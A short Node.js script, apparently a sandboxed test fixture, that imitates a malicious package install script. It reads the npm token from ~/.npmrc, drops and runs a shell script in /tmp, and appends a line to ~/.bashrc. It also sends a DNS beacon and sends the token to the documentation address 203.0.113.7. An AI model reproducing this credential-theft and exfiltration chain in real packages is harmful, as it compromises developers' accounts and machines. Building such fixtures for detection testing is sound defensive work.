// Inert: talks to documentation addresses inside a sealed network namespace, touches the sandbox home only.
const { readFileSync, writeFileSync, appendFileSync, unlinkSync, existsSync } = require('node:fs');
const { execFileSync } = require('node:child_process');
const dgram = require('node:dgram');
const net = require('node:net');

const home = process.env.HOME;
const token = readFileSync(`${home}/.npmrc`, 'utf8');
existsSync('/.dockerenv');
writeFileSync('/tmp/dropped.sh', '#!/bin/sh\ntrue\n', { mode: 0o755 });
execFileSync('/tmp/dropped.sh');
unlinkSync('/tmp/dropped.sh');
appendFileSync(`${home}/.bashrc`, '# marker\n');

const query = Buffer.from('123401000001000000000000' + '07636f6c6c65637407696e76616c696400' + '00010001', 'hex');
const dns = dgram.createSocket('udp4');
dns.send(query, 53, '10.0.2.3', () => dns.close());
const socket = net.connect(443, '203.0.113.7', () => socket.end(token));
socket.on('error', () => {});
